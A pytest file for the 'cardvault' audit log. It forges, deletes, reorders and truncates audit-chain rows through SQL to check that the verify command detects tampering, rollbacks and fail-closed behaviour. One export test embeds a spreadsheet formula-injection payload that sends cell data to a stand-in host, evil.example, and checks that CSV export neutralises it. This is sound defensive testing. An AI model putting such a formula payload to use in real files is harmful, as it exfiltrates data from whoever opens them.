"""The audit chain on a real database: tampering found by ``cardvault audit verify``.

Each kind of tampering is done with SQL to its own organisation's chain, so that one run of
the real CLI (a subprocess) checks them all: every broken chain must be named with the
first bad event, and the untouched chains must still verify.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import asdict
from datetime import datetime, timedelta

import pytest
from sqlalchemy import delete, func, select, text, update
from sqlalchemy.orm import Session
from tests.support import factories as f
from tests.support.cli import Cli

from cardvault.config import Settings
from cardvault.crypto import signing
from cardvault.domain.audit_chain import (
    AuditRecord,
    ChainHead,
    next_record,
    verify_chain,
    verify_checkpoint,
)
from cardvault.services.audit import trail as audit
from cardvault.services.cards import issuance
from cardvault.services.directory import registry as directory
from cardvault.services.system.runtime import Actor, Runtime
from cardvault.store.db import transaction
from cardvault.store.models import AuditEvent, AuditHead, Card, KeySlotInfo, Organisation

EVENTS_PER_CHAIN = 7  # organisation, 3 persons, RA role, card issued, card revoked

pytestmark = pytest.mark.slow  # every test here runs the real CLI (a second each)


@pytest.fixture
def cli(settings: Settings, rt: Runtime, database_url: str) -> Cli:
    return Cli(data_dir=settings.data_dir, database_url=database_url)


def _populate(rt: Runtime, actor: Actor, code: str) -> str:
    """An organisation whose chain holds EVENTS_PER_CHAIN events; returns its id."""
    f.org(rt, actor, code, policy={"key_algorithm": "ecp256"})
    card = f.issued_card(rt, actor, code)
    f.person(rt, actor, code)
    ra = f.person(rt, actor, code)
    directory.grant_role(rt, actor, user_id=ra, org_code=code, role="ra_agent")
    issuance.revoke_card(rt, actor, card.serial, reason="tests")
    with rt.db() as s:
        org_id = s.scalar(select(Organisation.id).where(Organisation.code == code))
        assert org_id is not None
        actions = list(
            s.scalars(
                select(AuditEvent.action).where(AuditEvent.chain == org_id).order_by(AuditEvent.seq)
            )
        )
    assert len(actions) == EVENTS_PER_CHAIN, actions
    return org_id


def _rows(s: Session, chain: str) -> list[AuditEvent]:
    return list(
        s.scalars(select(AuditEvent).where(AuditEvent.chain == chain).order_by(AuditEvent.seq))
    )


def _as_record(row: AuditEvent) -> AuditRecord:
    return AuditRecord(**{name: getattr(row, name) for name in AuditRecord.__dataclass_fields__})


def _forged_after(row: AuditEvent, seq: int, when: datetime) -> AuditEvent:
    """A well-formed event that links to ``row``, as someone with SQL access could make."""
    previous = ChainHead(chain=row.chain, seq=seq - 1, hash=row.hash)
    rec = next_record(
        previous=previous,
        chain=row.chain,
        event_id="forged-" + row.id[:20],
        occurred_at=when,
        action="card.unlocked",
        outcome="success",
        actor="cli:mallory",
        organisation_id=row.organisation_id,
    )
    data = asdict(rec)
    data["details"] = dict(rec.details)
    return AuditEvent(**data)


def _set(s: Session, row: AuditEvent, **values: object) -> None:
    s.execute(update(AuditEvent).where(AuditEvent.id == row.id).values(**values))


def _shift(s: Session, chain: str, from_seq: int, by: int) -> None:
    """Renumber seq >= from_seq in two steps (PostgreSQL checks uniqueness row by row)."""
    s.execute(
        update(AuditEvent)
        .where(AuditEvent.chain == chain, AuditEvent.seq >= from_seq)
        .values(seq=AuditEvent.seq + 100000)
    )
    s.execute(
        update(AuditEvent)
        .where(AuditEvent.chain == chain, AuditEvent.seq >= 100000)
        .values(seq=AuditEvent.seq - 100000 + by)
    )


# Each tampering returns what verify must report: (problem or code, seq, event id or None).
Tamper = Callable[[Session, str, list[AuditEvent], dict[str, str]], tuple[str, int, str | None]]


def _alter(column: str, value: Callable[[AuditEvent], object]) -> Tamper:
    def tamper(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
        _set(s, rows[2], **{column: value(rows[2])})
        return ("altered", 3, rows[2].id)

    return tamper


def _later(row: AuditEvent) -> str:
    moment = datetime.strptime(row.occurred_at, "%Y-%m-%dT%H:%M:%S.%fZ") + timedelta(seconds=1)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _delete_middle(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
    s.execute(delete(AuditEvent).where(AuditEvent.id == rows[3].id))
    return ("deleted", 4, rows[4].id)


def _delete_last(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
    s.execute(delete(AuditEvent).where(AuditEvent.id == rows[-1].id))
    return ("truncated", EVENTS_PER_CHAIN, None)


def _insert_forged(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
    _shift(s, chain, 4, by=1)
    forged = _forged_after(rows[2], 4, datetime.fromisoformat("2030-01-01T00:00:00+00:00"))
    s.add(forged)
    return ("inserted", 4, forged.id)


def _append_forged(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
    forged = _forged_after(
        rows[-1], EVENTS_PER_CHAIN + 1, datetime.fromisoformat("2030-01-01T00:00:00+00:00")
    )
    s.add(forged)
    return ("inserted", EVENTS_PER_CHAIN + 1, forged.id)


def _swap(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
    _set(s, rows[2], seq=-3)
    _set(s, rows[3], seq=3)
    _set(s, rows[2], seq=4)
    return ("reordered", 3, rows[3].id)


def _truncate_and_rewrite_head(
    s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]
) -> tuple:
    s.execute(delete(AuditEvent).where(AuditEvent.chain == chain, AuditEvent.seq > 5))
    s.execute(update(AuditHead).where(AuditHead.chain == chain).values(seq=5, hash=rows[4].hash))
    return ("audit_head_signature", 5, None)


def _truncate_and_drop_head(
    s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]
) -> tuple:
    s.execute(delete(AuditEvent).where(AuditEvent.chain == chain, AuditEvent.seq > 5))
    s.execute(delete(AuditHead).where(AuditHead.chain == chain))
    return ("truncated", 1, rows[0].id)


def _move_away(s: Session, chain: str, rows: list[AuditEvent], orgs: dict[str, str]) -> tuple:
    """Row 3 moves to MOVED_TO's chain, numbered as its next event."""
    target = orgs["MOVED_TO"]
    _set(s, rows[2], chain=target, organisation_id=target, seq=EVENTS_PER_CHAIN + 1)
    return ("deleted", 3, rows[3].id)


TAMPERING: dict[str, Tamper] = {
    "ALT_ACTION": _alter("action", lambda r: "card.unlocked"),
    "ALT_OUTCOME": _alter("outcome", lambda r: "failure"),
    "ALT_DETAILS": _alter("details", lambda r: {"user_id": "555000000000"}),
    "ALT_TIME": _alter("occurred_at", _later),
    "DEL_MIDDLE": _delete_middle,
    "DEL_LAST": _delete_last,
    "INSERTED": _insert_forged,
    "APPENDED": _append_forged,
    "SWAPPED": _swap,
    "TRUNC_HEAD": _truncate_and_rewrite_head,
    "TRUNC_NOHEAD": _truncate_and_drop_head,
    "MOVED_FROM": _move_away,
}


def test_audit_verify_names_the_first_bad_event_of_each_tampered_chain(
    cli: Cli, rt: Runtime, operator: Actor
) -> None:
    orgs = {code: _populate(rt, operator, code) for code in [*TAMPERING, "MOVED_TO", "CLEAN"]}
    expected: dict[str, tuple[str, int, str | None]] = {}
    with rt.db.begin() as s:
        moved_row = _rows(s, orgs["MOVED_FROM"])[2].id
        for code, tamper in TAMPERING.items():
            expected[code] = tamper(s, orgs[code], _rows(s, orgs[code]), orgs)
    expected["MOVED_TO"] = ("altered", EVENTS_PER_CHAIN + 1, moved_row)

    out = cli.run("audit", "verify")
    assert out.returncode == 6, out.stderr
    report = out.json
    assert report["ok"] is False
    chains = {c["chain"]: c for c in report["chains"]}
    assert chains["CLEAN"] == {
        "chain": "CLEAN",
        "events": EVENTS_PER_CHAIN,
        "anchored": EVENTS_PER_CHAIN,
        "ok": True,
    }
    assert chains["service"]["ok"] is True
    for code, (problem, seq, event_id) in expected.items():
        got = chains[code]
        assert got["ok"] is False, code
        if problem == "audit_head_signature":
            assert got["code"] == problem, (code, got)
            assert f"(event {seq})" in got["message"]
            continue
        assert got["code"] == "audit_chain_broken", (code, got)
        assert (got["problem"], got["seq"], got["event_id"]) == (problem, seq, event_id), code
        assert str(seq) in got["message"], (code, got["message"])

    altered = chains["ALT_ACTION"]["message"]
    assert f"The audit chain is broken: event 3 (id {expected['ALT_ACTION'][2]})" in altered


def test_audit_is_fail_closed(cli: Cli, rt: Runtime, operator: Actor) -> None:
    f.org(rt, operator, policy={"key_algorithm": "ecp256"})
    issued = f.issued_card(rt, operator)
    uid = f.person(rt, operator, "ORG1")
    passcode = f.ISSUANCE_PASSCODE + "\n"
    before = _audit_count(rt)

    with rt.engine.begin() as conn:
        conn.execute(text("ALTER TABLE audit_events RENAME TO audit_events_away"))
    try:
        revoked = cli.run("card", "revoke", issued.serial, "--reason", "left")
        issued_now = cli.run(
            "card", "issue", "--org", "ORG1", "--user-id", uid, "--passcode-stdin", stdin=passcode
        )
    finally:
        with rt.engine.begin() as conn:
            conn.execute(text("ALTER TABLE audit_events_away RENAME TO audit_events"))
    for out in (revoked, issued_now):
        assert out.returncode == 8, out.stderr
        assert out.error["code"] == "audit_unavailable"
        assert out.error["message"] == "The audit event could not be written, so nothing was done."
    _assert_untouched(rt, issued.serial, uid, before)

    key_file = cli.data_dir / "keys" / "audit-key.sealed"
    sealed = key_file.read_bytes()
    key_file.write_bytes(sealed[:-7])
    try:
        refused = cli.run("card", "revoke", issued.serial, "--reason", "left")
    finally:
        key_file.write_bytes(sealed)
    assert refused.returncode == 8
    assert "audit key" in refused.error["message"]
    _assert_untouched(rt, issued.serial, uid, before)
    with rt.db() as s:
        org_id = s.scalar(select(Organisation.id).where(Organisation.code == "ORG1"))
    assert audit.verify(rt, str(org_id)) == before


def _audit_count(rt: Runtime) -> int:
    with rt.db() as s:
        return int(s.scalar(select(func.count()).select_from(AuditEvent)) or 0)


def _assert_untouched(rt: Runtime, serial: str, uid: str, audit_events: int) -> None:
    with rt.db() as s:
        cards = list(s.scalars(select(Card)))
        assert [(c.serial, c.status) for c in cards] == [(serial, "issued")]
        assert cards[0].key_record is not None
        slots = s.scalar(select(func.count()).select_from(KeySlotInfo))
    assert slots == 1
    assert _audit_count(rt) == audit_events


def test_export_neutralises_formulas_and_jsonl_verifies(
    cli: Cli, rt: Runtime, operator: Actor
) -> None:
    f.org(rt, operator, policy={"key_algorithm": "ecp256"})
    issued = f.issued_card(rt, operator)
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    issuance.revoke_card(rt, operator, issued.serial, reason=formula)

    table = cli.run("audit", "export", "--org", "ORG1", "--format", "csv").ok().stdout
    rows = list(csv.DictReader(io.StringIO(table)))
    assert rows[-1]["action"] == "card.revoked"
    assert rows[-1]["reason"] == "'" + formula
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@"), value

    lines = cli.run("audit", "export", "--org", "org1", "--format", "jsonl").ok().stdout
    records = [AuditRecord(**json.loads(line)) for line in lines.splitlines()]
    assert records[-1].reason == formula
    with rt.db() as s:
        head = s.get(AuditHead, records[-1].chain)
        assert head is not None
    pinned = ChainHead(chain=head.chain, seq=head.seq, hash=head.hash)
    assert verify_chain(records, head=pinned, chain=head.chain) == pinned
    public = signing.load_public_key_pem((cli.data_dir / "keys" / "audit-key.pub.pem").read_bytes())
    verify_checkpoint(
        pinned,
        signed_at=str(head.signed_at),
        signature=bytes(head.signature or b""),
        public_key=public,
    )


def test_verify_names_a_rolled_back_chain_until_the_restore_is_acknowledged(
    cli: Cli, rt: Runtime, operator: Actor
) -> None:
    f.org(rt, operator, "DEMO")
    chain = _org_id(rt, "DEMO")
    for n in range(6):
        with transaction(rt.db) as s:
            audit.record(s, rt, operator, action=f"test.event{n}", organisation_id=chain)
        if n == 2:
            older = _head_row(rt, chain)  # event 4, as an older backup holds it
    with rt.db.begin() as s:
        s.execute(delete(AuditEvent).where(AuditEvent.chain == chain, AuditEvent.seq > 4))
        s.execute(update(AuditHead).where(AuditHead.chain == chain).values(**older))

    out = cli.run("audit", "verify")
    assert out.returncode == 6, out.stderr
    demo = {c["chain"]: c for c in out.json["chains"]}["DEMO"]
    assert (demo["code"], demo["problem"], demo["database_seq"], demo["anchored_seq"]) == (
        "audit_rolled_back",
        "behind",
        4,
        7,
    )
    text = cli.run("audit", "verify", json_output=False)
    assert text.returncode == 6
    assert (
        "DEMO         BROKEN: The audit chain was rolled back: chain DEMO: database head at "
        "event 4, anchored head at event 7: 3 events missing — a rollback or a restore."
    ) in text.stdout

    assert cli.run("audit", "acknowledge-restore", "--reason", "r").returncode == 2
    done = cli.run(
        "audit", "acknowledge-restore", "--chain", "demo", "--reason", "restored Monday's backup"
    ).ok()
    assert done.json == {
        "acknowledged": [
            {"chain": "DEMO", "database_seq": 4, "anchored_seq": 7, "restored_to": 4, "event": 5}
        ]
    }
    assert cli.run("audit", "verify").ok().json["ok"] is True

    syslog = {"CARDVAULT_AUDIT_ANCHOR": "syslog"}
    blind = cli.run("audit", "verify", **syslog)
    assert blind.returncode == 2
    assert "--anchors FILE" in blind.error["remedy"]
    exported = cli.run("audit", "verify", "--anchors", str(rt.settings.anchor_file), **syslog)
    assert exported.ok().json["anchors"]["sources"] == [str(rt.settings.anchor_file)]


def _org_id(rt: Runtime, code: str) -> str:
    with rt.db() as s:
        found = s.scalar(select(Organisation.id).where(Organisation.code == code))
    assert found is not None
    return str(found)


def _head_row(rt: Runtime, chain: str) -> dict[str, object]:
    with rt.db() as s:
        row = s.get(AuditHead, chain)
        assert row is not None
        return {
            "seq": row.seq,
            "hash": row.hash,
            "signed_at": row.signed_at,
            "signature": row.signature,
        }
